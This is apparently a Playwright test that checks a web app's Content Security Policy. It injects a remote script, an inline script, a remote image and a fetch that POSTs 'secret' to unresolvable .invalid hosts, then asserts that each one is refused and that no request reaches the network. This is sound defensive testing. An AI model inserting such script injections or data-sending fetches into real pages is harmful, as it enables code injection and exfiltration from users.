import { expect, test, type Request } from '@playwright/test';
import { openApp } from './fixtures';

// Injects what an attacker's text would try (a remote script, an inline script, a remote image, a
// fetch) into the running page and checks the CSP refuses each one and nothing leaves the machine.
// The .invalid names can never resolve, and a route records and aborts any request that got past
// the CSP to the network layer, so a CSP regression fails this test instead of reaching out.
//
// The shared fixtures fail a test on any console error and on any request to another host; here
// both are expected (Chromium reports a CSP-blocked load as a request that fails with "csp"), so this
// spec watches them itself and allows exactly the four refusals it provokes.

const remote = {
  script: 'https://scripts.example.invalid/evil.js',
  image: 'https://images.example.invalid/pixel.png',
  fetch: 'https://api.example.invalid/collect',
};

const expectedRefusals = [
  /^Loading the script 'https:\/\/scripts\.example\.invalid\/evil\.js' violates .*Content Security Policy/,
  /^Executing inline script violates the following Content Security Policy/,
  /^Loading the image 'https:\/\/images\.example\.invalid\/pixel\.png' violates .*Content Security Policy/,
  /^Connecting to 'https:\/\/api\.example\.invalid\/collect' violates .*Content Security Policy/,
  /^Fetch API cannot load https:\/\/api\.example\.invalid\/collect\. Refused to connect because it violates the document's Content Security Policy/,
];

interface Violation {
  directive: string;
  blocked: string;
}

test('the CSP blocks remote scripts, inline scripts, remote images and fetches', async ({ page, baseURL }) => {
  const origin = new URL(baseURL ?? 'http://127.0.0.1').origin;
  const reachedNetwork: string[] = [];
  await page.context().route(
    (url) => url.origin !== origin && url.protocol.startsWith('http'),
    (route) => {
      reachedNetwork.push(route.request().url());
      return route.abort('blockedbyclient');
    },
  );
  const foreign = new Map<string, string>();
  const isForeign = (request: Request) => !request.url().startsWith(origin) && /^https?:/.test(request.url());
  page.on('request', (request) => {
    if (isForeign(request)) foreign.set(request.url(), 'pending');
  });
  page.on('requestfailed', (request) => {
    if (isForeign(request)) foreign.set(request.url(), request.failure()?.errorText ?? 'failed');
  });
  page.on('requestfinished', (request) => {
    if (isForeign(request)) foreign.set(request.url(), 'finished');
  });
  const consoleProblems: string[] = [];
  page.on('console', (msg) => {
    if (msg.type() === 'error' || msg.type() === 'warning') consoleProblems.push(msg.text());
  });
  page.on('pageerror', (error) => consoleProblems.push(`pageerror: ${error.message}`));

  await openApp(page);
  const outcome = await page.evaluate(async (urls) => {
    const violations: Violation[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
    const loads = (element: HTMLScriptElement | HTMLImageElement) =>
      new Promise<boolean>((resolve) => {
        element.onload = () => resolve(true);
        element.onerror = () => resolve(false);
      });

    const script = document.createElement('script');
    const scriptLoaded = loads(script);
    script.src = urls.script;
    document.head.append(script);

    const inline = document.createElement('script');
    inline.textContent = 'window.__injected = true;';
    document.head.append(inline);

    const image = new Image();
    const imageLoaded = loads(image);
    image.src = urls.image;
    document.body.append(image);

    const fetched = await fetch(urls.fetch, { method: 'POST', body: 'secret' }).then(
      () => true,
      () => false,
    );
    const loaded = { script: await scriptLoaded, image: await imageLoaded, fetch: fetched };
    // Violation events are queued as tasks: give them a turn to arrive.
    await new Promise((resolve) => setTimeout(resolve, 100));
    const inlineRan = (window as unknown as { __injected?: boolean }).__injected === true;
    return { loaded, inlineRan, violations };
  }, remote);

  expect(outcome.loaded).toEqual({ script: false, image: false, fetch: false });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.violations).toHaveLength(4);
  expect(outcome.violations).toEqual(
    expect.arrayContaining([
      { directive: 'script-src-elem', blocked: remote.script },
      { directive: 'script-src-elem', blocked: 'inline' },
      { directive: 'img-src', blocked: remote.image },
      { directive: 'connect-src', blocked: remote.fetch },
    ]),
  );

  // Exactly the provoked refusals on the console, each once, and nothing else.
  for (const refusal of expectedRefusals) {
    expect(
      consoleProblems.filter((text) => refusal.test(text)),
      String(refusal),
    ).toHaveLength(1);
  }
  expect(consoleProblems.filter((text) => !expectedRefusals.some((refusal) => refusal.test(text)))).toEqual([]);

  // Blocked by the CSP inside the page; nothing reached the network layer.
  for (const [url, state] of foreign) expect(state, url).toBe('csp');
  expect(reachedNetwork, 'requests that reached the network layer').toEqual([]);
});
